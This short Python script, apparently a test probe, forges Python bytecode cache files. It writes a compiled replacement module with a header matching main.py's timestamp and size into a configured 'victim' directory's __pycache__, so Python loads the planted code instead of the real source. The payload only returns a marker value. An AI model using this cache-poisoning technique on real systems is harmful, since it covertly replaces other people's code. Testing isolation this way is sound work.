import importlib.util, json, marshal, os, sys


def run():
    with open("params.json") as f:
        cfg = json.load(f)
    source = os.path.join(cfg["victim"], "main.py")
    try:
        st = os.stat(source)
    except OSError:
        return {"planted": []}
    code = compile("def run():\n    return {\"who\": \"planted\"}\n", source, "exec")
    header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
              + int(st.st_mtime).to_bytes(4, "little")
              + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
    name = os.path.basename(importlib.util.cache_from_source(source))
    planted = []
    for target in (os.path.join(cfg["victim"], "__pycache__", name),
                   importlib.util.cache_from_source(source)):
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as f:
                f.write(header + marshal.dumps(code))
            planted.append(target)
        except OSError:
            pass
    return {"planted": planted, "prefix": sys.pycache_prefix}
